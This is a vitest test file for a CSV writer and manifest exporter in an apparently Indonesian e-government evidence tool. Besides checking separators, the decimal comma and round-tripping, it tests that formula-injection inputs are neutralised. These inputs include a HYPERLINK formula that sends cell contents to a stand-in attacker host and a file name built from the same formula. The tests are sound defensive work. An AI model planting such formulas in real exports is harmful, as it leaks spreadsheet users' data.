import { describe, expect, it } from 'vitest';
import { csvDocument, csvField } from '../../src/shared/csv.ts';
import { manifestCsv, type Manifest } from '../../src/render/manifest.ts';

/** A minimal RFC 4180 reader for the checks below (quotes, doubled quotes, CRLF). */
function parse(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === sep) row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://penyerang.example/?d="&A1;"klik")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

describe('the CSV writer', () => {
  it('defuses every text a spreadsheet would run as a formula', () => {
    const rows = parse(csvDocument(['a'], HOSTILE.map((h) => [h])).slice(1), ';').slice(1);
    expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it('writes the Indonesian-locale convention: ";" between fields, decimal comma, BOM, CRLF', () => {
    const text = csvDocument(['nilai', 'bukti'], [[1.25, 3], [-0.5, 'teks 1.25']]);
    expect(text).toBe('\uFEFFnilai;bukti\r\n1,25;3\r\n-0,5;teks 1.25\r\n');
    // A decimal comma never needs quotes: it is not the separator.
    expect(csvField(2.75)).toBe('2,75');
  });

  it('round-trips separators, quotes and line breaks; numbers and empty values stay as they are', () => {
    const text = csvDocument(['x', 'y', 'z'], [['a;b,c', 'kata "kutip"\nbaris', 3], [null, ' spasi ', 'biasa']]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(parse(text.slice(1), ';')).toEqual([['x', 'y', 'z'], ['a;b,c', 'kata "kutip"\nbaris', '3'], ['', ' spasi ', 'biasa']]);
    expect(csvField('-5 hari')).toBe("'-5 hari");
  });
});

describe('manifest.csv', () => {
  it('writes a file name that looks like a formula as text', () => {
    const name = '=HYPERLINK("http://penyerang.example","klik").pdf';
    const manifest: Manifest = {
      format: 3, mode: 'draf', instansi: 'Pemerintah Kabupaten Uji', tahun: 2026, instrumen: 'spbe-2020', tanggal: '2026-11-29',
      files: [{
        file: `bukti-dukung/I10_HUKUM_${name}`, kind: 'bukti', sha256: 'a'.repeat(64), bytes: 10, pages: 1,
        originalPath: name, opd: 'HUKUM', indicator: 10, indicators: [10], item: null, items: [], lampiran: 'I.10', lampiranFile: null, lampiranPage: null, sidik: null,
      }],
    };
    const text = manifestCsv(manifest);
    expect(text.startsWith('\uFEFFfile;kind;sha256;')).toBe(true);
    const [header, row] = parse(text.slice(1), ';');
    expect(row![header!.indexOf('original_path')]).toBe(`'${name}`);
    expect(row![header!.indexOf('file')]).toBe(`bukti-dukung/I10_HUKUM_${name}`);
  });
});
